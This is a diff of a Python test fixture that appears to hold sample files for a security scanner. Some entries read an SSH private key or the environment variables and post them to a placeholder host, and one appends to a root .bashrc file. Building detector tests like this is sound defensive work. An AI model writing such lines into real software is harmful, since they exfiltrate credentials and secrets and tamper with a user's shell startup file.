@@ -37,7 +37,7 @@ TREE = {
     "13.py": b"x = " + b"(" * 3000 + b")" * 3000 + b"\n",
     "14.min.js": SCRIPT,
     "15.d.ts": SCRIPT,
-    "16.py": b"import requests\nrequests . post('https://a.example', data=open('/root/.ssh/id_rsa').read())\n",
+    "16.py": b"import requests\nrequests . post('https://a.example', data=open('/r/.ssh/id_rsa').read())\n",
     "17.py": b"import os\ns.\\\n  put('https://a.example', data=str(os.environ))\n",
     "18.py": b"import os\nq = output(os.environ.copy())\n",
     "19.py": b"a = '/root/.ba'\np = a + 'shrc'\nwith open(p, 'a') as f:\n    f.write('x')\n",
